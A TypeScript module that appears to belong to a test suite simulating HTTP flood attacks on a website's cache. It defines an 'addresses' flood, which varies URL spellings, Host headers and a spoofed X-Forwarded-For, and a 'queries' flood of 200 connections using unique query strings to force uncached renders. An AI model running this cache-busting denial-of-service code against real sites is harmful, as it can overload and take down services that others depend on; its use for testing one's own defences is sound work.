import { Agent, get } from 'node:http'
import { ATTACKER, type Attack, repeat } from './attack.ts'

const pages = ['all-notice', 'all-news', 'about', 'fees', 'career', 'faq', 'contact', 'gallery', 'why-us']
/** Other spellings of an address, of which each was once a page of its own in the cache. */
const spellings: ((page: string, run: number) => string)[] = [
  (page) => `/%${page.charCodeAt(0).toString(16)}${page.slice(1)}`,
  (page) => `/${page.toUpperCase()}`,
  (page, run) => `${'/'.repeat(2 + (run % 50))}${page}`,
  (page, run) => `/${page}#${run}`,
  (page, run) => `/${page}?utm_source=${run}`,
  (page, run) => `/${page}?title=${run}`,
  (_page, run) => `/nowhere-${run}`,
]

/** 10 connections that ask for pages by ever other addresses and hosts. */
export const addresses: Attack = {
  name: 'addresses',
  what: '10 connections that ask for pages by ever other spellings, queries and Host headers',
  flood: ({ url }, signal) =>
    repeat(10, signal, (run) => {
      const page = pages[run % pages.length] ?? ''
      const path = spellings[Math.floor(run / pages.length) % spellings.length]?.(page, run) ?? '/'
      const headers = {
        host: run % 2 ? `host-${run}.example` : new URL(url).host,
        'x-forwarded-for': ATTACKER,
      }
      return new Promise<void>((resolve, reject) => {
        get(url, { path, headers, signal, agent: false }, (response) => {
          response.resume().once('close', resolve)
        }).once('error', reject)
      })
    }),
}

/** 200 connections that ask for pages with ever another query: each would be rendered. */
export const queries: Attack = {
  name: 'queries',
  what: '200 connections that ask for pages with ever another query, `?x=1` to `?x=n`',
  flood({ url }, signal) {
    const agent = new Agent({ keepAlive: true, maxSockets: 200 })
    return repeat(200, signal, (run) => {
      const path = `/${pages[run % pages.length]}?x=${run}`
      const headers = { 'x-forwarded-for': ATTACKER, 'accept-encoding': 'br' }
      return new Promise<void>((resolve, reject) => {
        get(url, { path, headers, signal, agent }, (response) => {
          response.resume().once('close', resolve)
        }).once('error', reject)
      })
    })
  },
}
